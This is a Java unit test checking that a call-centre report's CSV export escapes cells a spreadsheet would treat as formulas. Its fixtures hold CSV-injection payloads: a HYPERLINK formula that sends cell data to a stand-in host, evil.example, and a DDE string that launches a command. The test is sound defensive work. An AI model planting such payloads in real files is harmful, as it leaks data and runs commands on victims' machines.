package org.centralita.runtime.reports;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** The CSV of a report: what a spreadsheet does with it when a supervisor opens it. */
class ReportFormatTest {

    @Test
    void textThatASpreadsheetWouldRunAsAFormulaIsWrittenAsText() {
        ReportTable table = new ReportTable("agents", "Agents", List.of("agent", "answered", "average wait (s)"), List.of(
                List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", 3L, 12.25),
                List.of("+1 555 0100", 1L, -0.5),
                List.of("-cmd|' /C calc'!A0", 2L, 0.0),
                List.of("@SUM(1+1)", 4L, 1.0),
                List.of("\tAgent/1001", 5L, 2.0),
                List.of("Agent/1002", -7L, 3.0)));

        List<String> lines = ReportFormat.CSV.render(List.of(table), "Agents").lines().toList();

        assertThat(lines).containsExactly(
                "agent,answered,\"average wait (s)\"",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",3,12.3",
                "\"'+1 555 0100\",1,-0.5",
                "\"'-cmd|' /C calc'!A0\",2,0.0",
                "\"'@SUM(1+1)\",4,1.0",
                "\"'\tAgent/1001\",5,2.0",
                "Agent/1002,-7,3.0");
    }
}
